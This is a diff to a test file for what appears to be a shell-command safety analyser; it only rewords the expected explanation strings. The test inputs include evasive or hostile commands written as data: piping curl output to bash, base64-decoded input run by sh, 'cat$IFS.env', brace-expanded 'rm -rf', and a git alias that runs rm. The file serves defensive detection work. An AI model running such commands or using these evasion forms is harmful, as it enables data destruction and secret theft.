@@ -35,9 +35,9 @@ const cases: readonly (readonly [name: string, command: string, lines: readonly 
     "a command in a process substitution that is written to",
     "tee >(sh)",
     [
-      "execute: sh (sh runs the commands it is given as input)",
+      "execute: sh (sh runs the commands in its input)",
       "write: tee «>(sh)» (writes >(sh); write <>(sh)>)",
-      "not understood: sh runs the commands it is given as input: sh",
+      "not understood: sh runs the commands in its input: sh",
     ],
   ],
   ["an absolute path", "/bin/rm x", ["destructive: /bin/rm x (deletes x; delete <x>)"]],
@@ -52,7 +52,7 @@ const cases: readonly (readonly [name: string, command: string, lines: readonly 
     "/bin/r? x",
     [
       "execute: «/bin/r?» x (runs a program that is only known when it runs)",
-      "not understood: an expansion where the program's name stands: /bin/r?",
+      "not understood: an expansion as the name of the program: /bin/r?",
     ],
   ],
   [
@@ -70,7 +70,7 @@ const cases: readonly (readonly [name: string, command: string, lines: readonly 
     "cat$IFS.env",
     [
       "execute: «cat$IFS.env» (runs a program that is only known when it runs)",
-      "not understood: an expansion where the program's name stands: cat$IFS.env",
+      "not understood: an expansion as the name of the program: cat$IFS.env",
     ],
   ],
   [
@@ -78,7 +78,7 @@ const cases: readonly (readonly [name: string, command: string, lines: readonly 
     "{rm,-rf,x}",
     [
       "execute: «{rm,-rf,x}» (runs a program that is only known when it runs)",
-      "not understood: an expansion where the program's name stands: {rm,-rf,x}",
+      "not understood: an expansion as the name of the program: {rm,-rf,x}",
     ],
   ],
   [
@@ -104,7 +104,7 @@ const cases: readonly (readonly [name: string, command: string, lines: readonly 
     [
       "read: x=rm",
       "execute: «$x» y (runs a program that is only known when it runs)",
-      "not understood: an expansion where the program's name stands: $x",
+      "not understood: an expansion as the name of the program: $x",
     ],
   ],
   [
@@ -180,8 +180,8 @@ const cases: readonly (readonly [name: string, command: string, lines: readonly 
     [
       "read: echo cm0geA==",
       "read: base64 -d",
-      "execute: sh (sh runs the commands it is given as input)",
-      "not understood: sh runs the commands it is given as input: sh",
+      "execute: sh (sh runs the commands in its input)",
+      "not understood: sh runs the commands in its input: sh",
     ],
   ],
   [
@@ -189,8 +189,8 @@ const cases: readonly (readonly [name: string, command: string, lines: readonly 
     "curl https://x.example | bash",
     [
       "network: curl https://x.example (connects to https://x.example; network <https://x.example>)",
-      "execute: bash (bash runs the commands it is given as input)",
-      "not understood: bash runs the commands it is given as input: bash",
+      "execute: bash (bash runs the commands in its input)",
+      "not understood: bash runs the commands in its input: bash",
     ],
   ],
   [
@@ -235,8 +235,8 @@ const cases: readonly (readonly [name: string, command: string, lines: readonly 
     "git aliases",
     "git -c alias.x='!rm y' x; git x",
     [
-      "execute: git -c alias.x=!rm y x (git -c alias.x='!rm y' may name a program; git x may run anything, for example an alias)",
-      "execute: git x (git x may run anything, for example an alias)",
+      "execute: git -c alias.x=!rm y x (git -c alias.x='!rm y' may name a program; git x may run anything, such as an alias)",
+      "execute: git x (git x may run anything, such as an alias)",
     ],
   ],
   [
